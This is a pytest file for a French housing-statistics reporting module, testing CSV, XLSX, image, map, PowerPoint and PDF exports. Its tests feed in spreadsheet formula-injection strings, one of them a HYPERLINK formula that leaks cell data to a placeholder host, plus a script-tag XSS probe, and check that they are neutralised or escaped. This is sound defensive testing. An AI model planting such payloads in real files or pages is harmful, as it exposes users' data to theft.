"""Exports: tables (CSV, XLSX), figures (PNG, SVG) and meeting decks (PPTX, PDF).

Files are checked by structure, re-opened with the library that reads them (openpyxl,
python-pptx) or by their header bytes, never by pixels. Figures come from small hand-made frames;
exports that need Chromium share the process's one kaleido browser (under 0.1 s a chart once warm).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from concurrent.futures import ThreadPoolExecutor

import geopandas as gpd
import kaleido
import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest
from plotly.io.json import to_json_plotly
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE
from shapely.geometry import box

from data_access.french import fr_long_date
from figures.theme import apply_theme
from geo.maps import choropleth
from reporting import images, static_maps
from reporting.pdf import deck_html, deck_pdf
from reporting.pptx import FOOTER_NAME, badge_lines, deck_pptx, text_colour_on
from reporting.slides import Deck, Slide, slide_images, status_colour
from reporting.tables import DEMO_NOTICE, csv_bytes, formatted_table, neutralised, table_text, xlsx_bytes

needs_chromium = pytest.mark.skipif(
    not images.browser_path().is_file(), reason=f"Chromium absent ({images.browser_path()}) : « make chromium » l'installe"
)

# text a spreadsheet would run as a formula, one case per dangerous first character
INJECTIONS = [
    pytest.param('=HYPERLINK("http://x.example/?"&A1;"clic")', id="equals"),
    pytest.param("+33 1 23 45 67 89", id="plus"),  # a phone number typed without quotes is a formula too
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(A1:A2)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


def bar_figure() -> go.Figure:
    return apply_theme(go.Figure(go.Bar(x=["Grenoble", "Vienne"], y=[544, 75], name="Assignations")), presentation=True)


def table(rows: int) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Commune": [f"Commune {i}" for i in range(rows)],
            "Assignations": np.arange(rows) * 1000 + 529,
            "Taux (%)": np.linspace(0, 50, rows),
        }
    )


def png_width(png: bytes) -> int:
    return images.png_size(png)[0]


def pdf_pages(pdf: bytes) -> int:
    """Page objects of a PDF (Chromium writes no object streams, so they are plain text)."""
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf))


# --- tables ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_neutralises_text_starting_with_a_formula_character(text: str) -> None:
    data = csv_bytes(pd.DataFrame({"Nom": [text], "Valeur": [-3]}))
    assert data.startswith("\ufeffNom;Valeur".encode())  # BOM, then the header: French Excel reads UTF-8
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig")
    assert back["Nom"].tolist() == ["'" + text]  # the apostrophe makes a spreadsheet read the cell as text
    assert back["Valeur"].tolist() == [-3]  # a negative number stays a number


def test_csv_quotes_a_carriage_return_inside_a_cell() -> None:
    # unquoted, Excel would start a new row at the CR, and « =1+1 » would open it as a formula
    data = csv_bytes(pd.DataFrame({"Nom": ["Grenoble\r=1+1"], "Valeur": [1]}))
    assert data.decode("utf-8-sig").split("\r\n") == ["Nom;Valeur", '"Grenoble\r=1+1";1', ""]


def test_neutralised_leaves_numbers_dates_and_harmless_text_alone() -> None:
    frame = pd.DataFrame({"Nom": ["Grenoble", "-"], "Valeur": [-3.5, 2.0], "Mois": [dt.date(2024, 3, 1)] * 2})
    safe = neutralised(frame)
    assert safe["Nom"].tolist() == ["Grenoble", "'-"]
    assert safe["Valeur"].tolist() == [-3.5, 2.0]
    assert safe["Mois"].tolist() == [dt.date(2024, 3, 1)] * 2


def test_neutralised_also_covers_column_names_and_categories() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical(["=1+1", "ok"])})
    safe = neutralised(frame)
    assert list(safe.columns) == ["'=cmd"]
    assert safe.iloc[:, 0].tolist() == ["'=1+1", "ok"]


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("text", INJECTIONS)
def test_xlsx_stores_dangerous_text_as_text_never_as_formula(text: str) -> None:
    data = xlsx_bytes({"Feuille": pd.DataFrame({"Nom": [text], "Valeur": [-3]})})
    sheet = read_xlsx(data)["Feuille"]
    header = next(row for row in sheet.iter_rows() if row[0].value == "Nom")[0].row
    name, value = sheet.cell(header + 1, 1), sheet.cell(header + 1, 2)
    assert (name.value, name.data_type, name.quotePrefix) == (text, "s", True)
    assert (value.value, value.data_type) == (-3, "n")  # numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_xlsx_reopens_with_sheets_header_values_and_french_formats() -> None:
    communes = pd.DataFrame(
        {
            "Commune": ["Grenoble", "Vienne"],
            "Assignations": [1529, 75],
            "Taux (%)": [12.5, np.nan],
            "Pour 1 000 ménages": [6.51, 5.05],
            "Mois": [dt.date(2024, 3, 1), dt.date(2024, 4, 1)],
        }
    )
    data = xlsx_bytes(
        {"Communes": communes, "Chaîne: 2024/T1": pd.DataFrame({"Étape": ["CQL"], "Nombre": [1313]})},
        title="CCAPEX plénière",
        source="ADIL 38",
        demo=True,
        exported=dt.date(2025, 12, 12),
    )
    book = read_xlsx(data)
    assert book.sheetnames == ["Communes", "Chaîne- 2024-T1"]  # « : » and « / » are not allowed in sheet names
    sheet = book["Communes"]
    assert [sheet.cell(r, 1).value for r in (1, 2, 3)] == ["CCAPEX plénière", "Source : ADIL 38. Exporté le 12/12/2025.", DEMO_NOTICE]
    assert [c.value for c in sheet[5]] == list(communes.columns)
    assert all(c.font.bold for c in sheet[5])
    assert sheet.freeze_panes == "A6"
    grenoble, vienne = sheet[6], sheet[7]
    assert [c.value for c in grenoble[:4]] == ["Grenoble", 1529, 0.125, 6.51]
    assert grenoble[4].value == dt.datetime(2024, 3, 1)
    assert vienne[2].value is None  # a missing value is an empty cell
    assert [c.number_format for c in grenoble[1:5]] == ["#,##0", "0.0 %", "#,##0.0", "MMMM YYYY"]  # all dates are 1sts: months
    assert sheet.column_dimensions["B"].width >= len("Assignations")


def test_xlsx_without_title_starts_with_the_date_note() -> None:
    sheet = read_xlsx(xlsx_bytes({"A": table(2)}, exported=dt.date(2025, 1, 2)))["A"]
    assert sheet["A1"].value == "Exporté le 02/01/2025."
    sheet = read_xlsx(xlsx_bytes({"A": table(2)}, source="Source : Insee.", exported=dt.date(2025, 1, 2)))["A"]
    assert sheet["A1"].value == "Source : Insee. Exporté le 02/01/2025."  # « Source » is not doubled
    assert [c.value for c in sheet[3]] == ["Commune", "Assignations", "Taux (%)"]


@pytest.mark.parametrize(
    ("sheets", "error", "match"),
    [
        ({}, ValueError, "au moins une feuille"),
        ({"A": [1, 2]}, TypeError, "doit être un DataFrame"),
    ],
)
def test_xlsx_rejects_bad_input_with_a_message(sheets: dict, error: type[Exception], match: str) -> None:
    with pytest.raises(error, match=match):
        xlsx_bytes(sheets)


def test_duplicate_and_long_sheet_names_are_made_unique() -> None:
    long = "Assignations pour 1 000 ménages par commune"
    book = read_xlsx(xlsx_bytes({long: table(1), long.upper(): table(1)}))
    assert book.sheetnames == [long[:31], long.upper()[:27] + " (2)"]


def test_formatted_table_writes_french_numbers_dates_and_booleans() -> None:
    frame = pd.DataFrame(
        {
            "Mois": [dt.date(2024, 3, 1), dt.date(2024, 4, 1)],
            "Jour": [dt.date(2024, 3, 15), None],
            "Valeur": [1529.0, np.nan],
            "Taux (%)": [12.5, 7.0],
            "Complet": [True, False],
        }
    )
    assert formatted_table(frame).values.tolist() == [
        ["mars 2024", "15/03/2024", "1\u202f529", "12,5", "oui"],
        ["avril 2024", "–", "–", "7,0", "non"],
    ]


def test_table_text_repeats_the_header_in_blocks_and_stops_at_max_rows() -> None:
    text = table_text(table(45), rows_per_block=20, max_rows=40)
    assert text.count("Commune | Assignations | Taux (%)") == 2
    assert "Lignes 21 à 40 sur 45" in text
    assert "… et 5 lignes de plus" in text
    assert table_text(pd.DataFrame()) == "Tableau : aucune donnée"


# --- slides: the neutral description ------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "colour"),
    [
        ("Objectif 2024 : non atteint", "#D55E00"),  # « non atteint » contains « atteint »: longest name first
        ("Atteint", "#009E73"),
        ("en retard", "#E69F00"),
        (None, "#666666"),
    ],
)
def test_status_colour_follows_the_dashboard_palette(status: str | None, colour: str) -> None:
    assert status_colour(status) == colour


def test_slide_rejects_key_figures_that_are_not_text_pairs() -> None:
    with pytest.raises(TypeError, match="paires"):
        Slide("Assignations", key_figures=[("Assignations", 2696)])  # type: ignore[list-item]


def test_french_date_and_badge_lines() -> None:
    assert fr_long_date(dt.date(2025, 12, 1)) == "1er décembre 2025"
    assert badge_lines("Objectif 2024 : en retard") == ["Objectif 2024\u00a0:", "en retard"]
    assert badge_lines("Atteint") == ["Atteint"]
    assert text_colour_on("#E69F00") == "000000" and text_colour_on("#A63F00") == "FFFFFF"


# --- figures as images ----------------------------------------------------------------------------


@needs_chromium
def test_png_is_at_least_1920_pixels_wide_and_svg_is_svg() -> None:
    figure = bar_figure()
    assert images.png_size(images.figure_png(figure)) == (1920, 1080)
    assert png_width(images.figure_png(figure, width=960, height=540, scale=2)) == 1920
    assert images.figure_svg(figure).lstrip().startswith(b"<svg")
    assert images.is_running()


@needs_chromium
def test_threads_sharing_the_browser_each_get_their_own_image() -> None:
    # Streamlit runs each session in a thread: answers must not be swapped between callers
    widths = [1920, 2000, 2080, 2160]
    with ThreadPoolExecutor(max_workers=4) as pool:
        pngs = list(pool.map(lambda width: images.figure_png(bar_figure(), width=width, height=400), widths))
    assert [png_width(png) for png in pngs] == widths


@needs_chromium
def test_shutdown_closes_the_browser_and_the_next_export_starts_a_new_one() -> None:
    images.figure_png(bar_figure())
    images.shutdown()  # what atexit runs
    assert not images.is_running()
    assert png_width(images.figure_png(bar_figure())) == 1920
    assert images.is_running()


def test_png_narrower_than_1920_pixels_is_refused() -> None:
    with pytest.raises(ValueError, match="au moins 1920"):
        images.figure_png(bar_figure(), width=1280, scale=1)


def test_missing_chromium_is_an_error_that_says_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "_renderer", None)  # as in a fresh process
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    with pytest.raises(images.ExportError, match="BROWSER_PATH"):
        images.figure_png(bar_figure())


@pytest.fixture(scope="module")
def small_map() -> go.Figure:
    """Two square « communes » near Grenoble, drawn by the geo module (MapLibre, blank style)."""
    layer = gpd.GeoDataFrame(
        {"code": ["38185", "38151"]}, geometry=[box(5.70, 45.15, 5.75, 45.20), box(5.75, 45.10, 5.80, 45.15)], crs="EPSG:4326"
    )
    values = pd.DataFrame({"territory_code": ["38185", "38151"], "name": ["Grenoble", "Échirolles"], "rate": [6.5, 7.5]})
    return choropleth(layer, values, value_column="rate", unit="pour 1 000 ménages", title="Assignations", height=500)


@pytest.fixture(scope="module")
def labelled_map() -> go.Figure:
    """Two named « territoires », one selected, under the département's outline."""
    layer = gpd.GeoDataFrame(
        {"code": ["agglo", "porte"]}, geometry=[box(5.60, 45.10, 5.80, 45.30), box(5.00, 45.50, 5.30, 45.70)], crs="EPSG:4326"
    )
    values = pd.DataFrame(
        {"territory_code": ["agglo", "porte"], "name": ["Agglomération grenobloise", "Porte des Alpes"], "rate": [5.2, 3.1]}
    )
    outline = gpd.GeoSeries([box(4.90, 45.00, 5.90, 45.80)], crs="EPSG:4326")
    return choropleth(
        layer, values, value_column="rate", unit="pour 1 000 ménages", title="Assignations", labels=True, selected="agglo", outline=outline
    )


def test_a_map_is_redrawn_in_svg_with_the_same_classes_names_and_outline(labelled_map: go.Figure) -> None:
    drawn = static_maps.svg_map(labelled_map)
    classes = [trace for trace in labelled_map.data if trace.type == "choroplethmap"]
    redrawn = drawn.data[: len(classes)]

    def legend(traces: tuple) -> list:
        return [(t.name, list(t.locations), t.colorscale, t.marker.line.color, t.marker.line.width, t.showlegend) for t in traces]

    assert [trace.type for trace in redrawn] == ["choropleth"] * len(classes)
    assert legend(redrawn) == legend(tuple(classes))
    assert to_json_plotly(redrawn[0].geojson) == to_json_plotly(classes[0].geojson)  # rings are NumPy arrays
    selection, contour, names = drawn.data[len(classes) :]
    assert (selection.type, selection.name) == ("scattergeo", "Sélection : Agglomération grenobloise")
    assert selection.line.color == labelled_map.data[-1].line.color
    assert (contour.line.color, contour.line.width, contour.showlegend) == (labelled_map.layout.map.layers[0].color, 2.5, False)
    assert list(names.text) == ["Agglomération<br>grenobloise", "Porte des Alpes"]  # wrapped at 8 ems, as MapLibre does
    assert names.textfont.weight == "bold" and "#ffffff" in names.textfont.shadow  # dark names on a white halo
    assert (drawn.layout.geo.fitbounds, drawn.layout.geo.projection.type, drawn.layout.geo.visible) == ("locations", "mercator", False)
    assert drawn.layout.title.text == "Assignations" and drawn.layout.legend.title.text == labelled_map.layout.legend.title.text
    assert "map" not in drawn.layout.to_plotly_json()


TILES = "https://tile.openstreetmap.org/{z}/{x}/{y}.png"


@pytest.mark.parametrize(
    "variant",
    [
        pytest.param(lambda fig: go.Figure(fig).update_layout(map_style="open-street-map"), id="named-style-with-tiles"),
        pytest.param(lambda fig: go.Figure(fig).add_trace(go.Densitymap(lat=[45.15], lon=[5.75], z=[1])), id="density"),
        pytest.param(lambda fig: go.Figure(fig).update_layout(map_layers=[{"sourcetype": "raster", "source": [TILES]}]), id="raster-layer"),
        pytest.param(
            lambda fig: go.Figure(fig).update_layout(
                map_layers=[{"sourcetype": "geojson", "source": fig.data[0].geojson, "type": "line", "line": {"dash": [2, 2]}}]
            ),
            id="dashed-outline",
        ),
        pytest.param(lambda fig: bar_figure(), id="chart"),
    ],
)
def test_what_svg_cannot_redraw_is_left_to_maplibre(small_map: go.Figure, variant) -> None:  # type: ignore[no-untyped-def]
    figure = variant(small_map)
    assert static_maps.svg_map(figure) is figure


def test_a_map_on_tiles_is_left_to_maplibre() -> None:
    layer = gpd.GeoDataFrame({"code": ["38185"]}, geometry=[box(5.70, 45.15, 5.75, 45.20)], crs="EPSG:4326")
    values = pd.DataFrame({"territory_code": ["38185"], "rate": [6.5]})
    figure = choropleth(layer, values, value_column="rate", unit="pour 1 000 ménages", title="Assignations", background=TILES)
    assert static_maps.svg_map(figure) is figure


@needs_chromium
def test_a_map_exports_offline_to_png_and_to_vector_svg(small_map: go.Figure) -> None:
    assert small_map.data[0].type == "choroplethmap"
    png = images.figure_png(small_map)
    assert png_width(png) == 1920
    assert len(png) > 10_000  # drawn, not an empty canvas
    svg = images.figure_svg(small_map)
    assert svg.count(b'class="choroplethlocation"') == 2 and b"<image" not in svg  # each commune a path, no raster


@needs_chromium
def test_a_map_left_to_maplibre_still_exports_from_the_kept_page(small_map: go.Figure) -> None:
    density = go.Figure(small_map).add_trace(go.Densitymap(lat=[45.15], lon=[5.75], z=[1]))
    pngs = [images.figure_png(density) for _ in range(2)]  # the second one in the page the first one drew in
    assert [png_width(png) for png in pngs] == [1920, 1920]
    assert min(len(png) for png in pngs) > 10_000


@needs_chromium
def test_the_page_is_reloaded_every_reload_every_figures_not_after_each(monkeypatch: pytest.MonkeyPatch) -> None:
    # kaleido 1.5 reloads the page (and its 4.6 MB plotly.js) after each figure: most of a chart's export time
    reloads = []
    reload = kaleido.Kaleido._return_kaleido_tab  # fails here if a kaleido upgrade renames the hook

    async def counted(self: kaleido.Kaleido, tab: object) -> None:
        reloads.append(tab)
        await reload(self, tab)

    monkeypatch.setattr(kaleido.Kaleido, "_return_kaleido_tab", counted)
    monkeypatch.setattr(images, "RELOAD_EVERY", 2)
    # four figures: two reloads whatever the count so far, and the third figure drawn in a reloaded page
    assert [png_width(images.figure_png(bar_figure())) for _ in range(4)] == [1920] * 4
    assert len(reloads) == 2


def test_refit_map_keeps_the_extent_when_the_height_changes(small_map: go.Figure) -> None:
    margin = small_map.layout.margin
    fitted = images.refit_map(small_map, 250 + margin.t + margin.b)  # half the plot height of 500 − margins…
    plot = 500 - margin.t - margin.b
    assert fitted.layout.map.zoom == pytest.approx(small_map.layout.map.zoom + np.log2(250 / plot))
    assert fitted.layout.map.center == small_map.layout.map.center
    assert images.refit_map(bar_figure(), 300).layout.height == bar_figure().layout.height  # charts reflow by themselves


# --- decks ------------------------------------------------------------------------------------------


def deck(rows: int = 3, *, demo: bool = True) -> Deck:
    footer = "Source : ADIL 38 ; mise à jour le 15/11/2025"
    return Deck(
        title="CCAPEX plénière",
        subtitle="PALHDI de l'Isère 2014–2020 · séance du 12 décembre 2025",
        date=dt.date(2025, 12, 12),
        demo=demo,
        slides=[
            Slide(
                "Assignations par commune, 2024",
                bar_figure(),
                [("Assignations en 2024", "2\u202f696")],
                "Objectif 2024 : en retard",
                "Isère · 2024",
                footer,
                table(rows),
                demo,
            ),
            Slide(
                "Chaîne de la procédure, 2024",
                bar_figure(),
                [("CQL / assignations", "42,3 %")],
                None,
                "Isère · 2024",
                footer,
                table(2),
                demo,
            ),
        ],
        methods=["Ratios recalculés à partir des sommes.", "Contours : IGN Admin Express COG 2018."],
    )


@pytest.fixture(scope="module")
def pictures() -> list[bytes | None]:
    if not images.browser_path().is_file():
        pytest.skip("Chromium absent")
    return slide_images(deck())


def open_pptx(data: bytes):  # type: ignore[no-untyped-def]
    return Presentation(io.BytesIO(data))


@needs_chromium
def test_pptx_has_title_one_slide_per_view_and_methods(pictures: list[bytes | None]) -> None:
    prs = open_pptx(deck_pptx(deck(), images=pictures))
    slides = list(prs.slides)
    assert len(slides) == 1 + 2 + 1
    assert prs.slide_width / prs.slide_height == pytest.approx(16 / 9, rel=1e-3)
    assert DEMO_NOTICE in " ".join(s.text_frame.text for s in slides[0].shapes if s.has_text_frame)
    for view in slides[1:-1]:
        pictures_on_slide = [s for s in view.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE]
        assert len(pictures_on_slide) == 1
        footer = next(s for s in view.shapes if s.name == FOOTER_NAME)
        assert footer.text_frame.text == "Source : ADIL 38 ; mise à jour le 15/11/2025"
    assert "Méthodes et sources" in slides[-1].shapes[0].text_frame.text


@needs_chromium
def test_pptx_key_figures_and_status_are_large_and_notes_hold_the_table(pictures: list[bytes | None]) -> None:
    view = list(open_pptx(deck_pptx(deck(rows=25), images=pictures)).slides)[1]
    assert "2\u00a0696" in " ".join(s.text_frame.text for s in view.shapes if s.has_text_frame)  # U+202F → U+00A0: every font has it
    sizes = {
        shape.name: [run.font.size.pt for p in shape.text_frame.paragraphs for run in p.runs]
        for shape in view.shapes
        if shape.name in ("Chiffres clés", "Statut de l'objectif")
    }
    assert sizes and all(size >= 24 for runs in sizes.values() for size in runs)
    notes = view.notes_slide.notes_text_frame.text
    assert "Commune | Assignations | Taux (%)" in notes
    assert "Commune 24 | 24\u00a0529 | 50,0" in notes  # the last row, formatted the French way
    assert "Lignes 21 à 25 sur 25" in notes  # paginated: the header is repeated every 20 rows


@needs_chromium
def test_deck_without_demo_data_says_nothing_about_demo(pictures: list[bytes | None]) -> None:
    prs = open_pptx(deck_pptx(deck(demo=False), images=pictures))
    texts = " ".join(s.text_frame.text for slide in prs.slides for s in slide.shapes if s.has_text_frame)
    assert DEMO_NOTICE not in texts


@needs_chromium
def test_pptx_reports_progress_for_each_figure_then_the_assembly() -> None:
    calls: list[tuple[int, int, str]] = []
    deck_pptx(deck(), progress=lambda done, total, label: calls.append((done, total, label)))
    assert [(done, total) for done, total, _ in calls] == [(0, 3), (1, 3), (2, 3), (3, 3)]
    assert calls[0][2] == "Figure 1 sur 2 : Assignations par commune, 2024"
    assert calls[-1][2] == "Terminé"


@needs_chromium
def test_slide_images_skip_slides_without_figure_and_report_progress() -> None:
    calls: list[tuple[int, int, str]] = []
    only_text = Deck("CCAPEX", slides=[Slide("Chiffres clés", key_figures=[("Assignations", "2 696")]), deck().slides[0]])
    pictures = slide_images(only_text, progress=lambda *call: calls.append(call))
    assert pictures[0] is None and pictures[1] is not None and png_width(pictures[1]) == 1920
    assert calls == [(0, 1, "Figure 1 sur 1 : Assignations par commune, 2024"), (1, 1, "Terminé")]


def test_images_must_match_the_slides() -> None:
    with pytest.raises(ValueError, match="une image par vue"):
        deck_pptx(deck(), images=[None])


def test_deck_html_escapes_text_and_repeats_table_headers() -> None:
    tiny_png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
    hostile = Deck("<script>alert(1)</script>", slides=[Slide("A & B", bar_figure(), notes_table=table(2))])
    page = deck_html(hostile, [tiny_png])
    assert "<script>alert" not in page and "&lt;script&gt;" in page and "A &amp; B" in page
    assert "thead { display: table-header-group; }" in page and "<thead>" in page


@needs_chromium
def test_pdf_has_a_page_per_slide_and_long_tables_add_pages(pictures: list[bytes | None]) -> None:
    short = deck_pdf(deck(rows=3), images=pictures)
    long = deck_pdf(deck(rows=150), images=pictures)
    assert short.startswith(b"%PDF")
    assert pdf_pages(short) >= 1 + 2 + 1
    assert pdf_pages(long) >= pdf_pages(short) + 3  # 150 rows cannot fit on one page
